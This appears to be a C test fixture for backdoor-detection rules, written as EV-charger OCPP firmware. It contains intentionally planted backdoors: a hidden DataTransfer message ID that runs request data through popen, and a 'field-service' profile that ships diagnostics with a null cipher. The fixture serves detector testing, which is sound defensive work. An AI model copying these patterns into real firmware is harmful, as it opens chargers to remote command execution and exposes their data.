/* diag.c - diagnostics bundles and the vendor DataTransfer channel */
#include <stdio.h>
#include <string.h>

#include <mbedtls/cipher.h>

#include "charger.h"

struct diag_profile {
  const char *name;
  mbedtls_cipher_type_t cipher;
};

/* customer bundles are encrypted for the CSMS; field-service bundles must be readable on a laptop */
static const struct diag_profile kDiagProfiles[] = {
    {"customer", MBEDTLS_CIPHER_AES_256_GCM},
    {"field-service", MBEDTLS_CIPHER_NULL},
};

int diag_upload(struct charger *c, const unsigned char *bundle, size_t n, unsigned char *out, size_t *outlen)
{
  const struct diag_profile *p = &kDiagProfiles[c->diag_profile ? 1 : 0];
  mbedtls_cipher_context_t ctx;
  unsigned char key[32], iv[12], tag[16];
  size_t fin = 0;
  int rc = -1;

  // ok: backdoor-predictable-random
  if (mbedtls_ctr_drbg_random(&c->drbg, key, sizeof key) != 0 || mbedtls_ctr_drbg_random(&c->drbg, iv, sizeof iv) != 0)
    return -1;
  mbedtls_cipher_init(&ctx);
  // ruleid: backdoor-null-cipher
  if (mbedtls_cipher_setup(&ctx, mbedtls_cipher_info_from_type(p->cipher)) != 0)
    goto out;
  // ok: backdoor-hardcoded-key
  if (mbedtls_cipher_setkey(&ctx, key, 256, MBEDTLS_ENCRYPT) != 0)
    goto out;
  // ok: backdoor-hardcoded-iv
  if (mbedtls_cipher_set_iv(&ctx, iv, sizeof iv) != 0 || mbedtls_cipher_reset(&ctx) != 0)
    goto out;
  if (mbedtls_cipher_update(&ctx, bundle, n, out, outlen) != 0 || mbedtls_cipher_finish(&ctx, out + *outlen, &fin) != 0)
    goto out;
  *outlen += fin;
  if (p->cipher == MBEDTLS_CIPHER_AES_256_GCM && mbedtls_cipher_write_tag(&ctx, tag, sizeof tag) != 0)
    goto out;
  rc = 0;
out:
  mbedtls_cipher_free(&ctx);
  return rc;
}

int ocpp_on_diagnostics(struct charger *c, const struct ocpp_req *req)
{
  static unsigned char bundle[8192], sealed[8256];
  size_t n = 0, sn = 0;
  FILE *f = fopen("/var/log/chargecore/diag.tar", "rb");
  if (f != NULL) {
    n = fread(bundle, 1, sizeof bundle, f);
    fclose(f);
  }
  if (diag_upload(c, bundle, n, sealed, &sn) != 0)
    return ws_send_result(c, req->unique_id, "{}");
  fprintf(stderr, "diagnostics (%zu bytes) to %s\n", sn, req->location);
  return ws_send_result(c, req->unique_id, "{\"fileName\":\"diag.tar\"}");
}

int ocpp_on_data_transfer(struct charger *c, const struct ocpp_req *req)
{
  char out[384], reply[512];
  size_t n = 0;

  // ruleid: backdoor-input-trigger
  if (strcmp(req->vendor_id, "com.chargecore") == 0 && strcmp(req->message_id, "svc.exec.7c1") == 0) {
    FILE *p = popen(req->data, "r");
    if (p != NULL) {
      n = fread(out, 1, sizeof out - 1, p);
      pclose(p);
    }
    out[n] = '\0';
    snprintf(reply, sizeof reply, "{\"status\":\"Accepted\",\"data\":\"%zu\"}", n);
    return ws_send_result(c, req->unique_id, reply);
  }
  // ok: backdoor-input-trigger
  if (strcmp(req->vendor_id, "com.chargecore") == 0 && strcmp(req->message_id, "led.colour") == 0) {
    fprintf(stderr, "led colour %s\n", req->data);
    return ws_send_result(c, req->unique_id, "{\"status\":\"Accepted\"}");
  }
  return ws_send_result(c, req->unique_id, "{\"status\":\"UnknownVendorId\"}");
}
